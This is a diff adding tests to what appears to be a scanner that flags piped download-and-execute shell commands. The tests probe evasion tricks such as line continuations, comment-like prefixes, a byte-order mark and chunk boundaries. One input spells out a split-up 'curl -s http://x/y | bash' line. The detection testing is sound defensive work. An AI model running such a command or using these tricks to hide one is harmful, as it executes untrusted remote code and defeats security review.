@@ -241,3 +241,30 @@ def test_a_command_may_be_as_long_as_a_shell_takes(before, between):
         + "ls\n" * (1 << 19)
     )
     assert verdicts(text, "a.sh") == [("MLG-CMD-001", "high")]
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        # A line that goes on is no comment, whatever it begins with, and a word goes on as well.
+        ("a.sh", "#!/bin/sh\necho a\\\n#b; " + PIPED + "\n"),
+        ("a.yaml", 'run: "echo a\\\n  #b; ' + PIPED + '"\n'),
+        ("a.sh", "#!/bin/sh\ncu\\\nrl -s http://x/y | ba\\\nsh\n"),
+        # A mark makes no text of another encoding.
+        ("a.sh", "\xff\xfe\n" + PIPED + "\n"),
+        ("a.js", "run(`\n//; " + PIPED + "\n`)"),
+    ],
+)
+def test_what_only_looks_like_something_else(name, text):
+    assert ("MLG-CMD-001", "high") in [
+        (each.rule, each.severity.value) for each in judged(look(text.encode("latin-1"), name))
+    ]
+
+
+@pytest.mark.parametrize("shift", range(-3, 3))
+def test_a_piece_that_begins_within_a_line_begins_with_no_comment(shift):
+    # Pieces of 4 MiB are looked at, and what is kept of one begins so far before its end.
+    end = (4 << 20) - (1 << 20) - 2048 + shift
+    text = "#!/bin/sh\n" + ": z\n" * ((end - 20) // 4)
+    text += "z" * (end - len(text) - 1) + "x#; " + PIPED + "\n" + ": z\n" * (1 << 19)
+    assert verdicts(text, "a.sh") == [("MLG-CMD-001", "high")]
